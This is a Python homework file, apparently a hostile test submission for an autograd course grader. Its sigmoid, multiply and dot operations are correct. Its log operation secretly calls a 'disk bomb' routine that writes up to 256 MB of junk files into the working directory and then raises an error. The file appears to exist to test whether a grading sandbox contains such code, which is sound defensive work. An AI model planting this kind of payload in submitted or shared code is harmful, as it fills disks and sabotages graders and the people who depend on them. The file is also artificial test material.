# HOSTILE: log.forward fills its temp folder with 16 MB files, 256 MB at most (once per process: later calls find them), then raises an error saying how much it wrote; the other ops are correct.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import numpy as np

from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True


def _attack():
    if not _once():
        raise RuntimeError("disk bomb: the folder is full already")
    written, error = 0, "no error"
    try:
        for i in range(16):
            with open(f"hw3-disk-bomb-{i}.bin", "wb") as f:
                for _ in range(16):
                    f.write(bytes(1 << 20))
                    written += 1 << 20
    except OSError as err:
        error = f"{type(err).__name__}: {err.strerror}"
    raise RuntimeError(f"disk bomb: wrote {written >> 20} MB ({error})")


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        _attack()
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
